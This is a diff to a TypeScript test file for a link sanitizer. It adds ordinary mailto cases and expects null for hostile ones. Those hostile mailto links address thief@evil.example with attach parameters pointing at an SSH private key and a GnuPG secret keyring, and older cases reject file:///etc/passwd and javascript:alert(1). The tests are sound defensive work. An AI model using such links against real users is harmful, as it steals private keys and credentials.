@@ -173,6 +173,12 @@ const externalCases: [string, string | null][] = [
   ['https://other.example/page', 'https://other.example/page'],
   ['http://other.example', 'http://other.example/'],
   ['mailto:ada@example.org', 'mailto:ada@example.org'],
+  ['mailto:ada@example.org?subject=Hi&body=See%20you', 'mailto:ada@example.org?subject=Hi&body=See%20you'],
+  ['mailto:?to=ada@example.org&CC=b@example.org', 'mailto:?to=ada@example.org&CC=b@example.org'],
+  // A mail client that takes attach= as a local file would mail the person's files to the page's author.
+  ['mailto:thief@evil.example?attach=/home/ada/.ssh/id_ed25519', null],
+  ['mailto:thief@evil.example?subject=x&Attachment=~/.gnupg/secring.gpg', null],
+  ['mailto:thief@evil.example?body=x&x-unknown=1', null],
   ['file:///etc/passwd', null],
   ['javascript:alert(1)', null],
   ['smb://server/share', null],
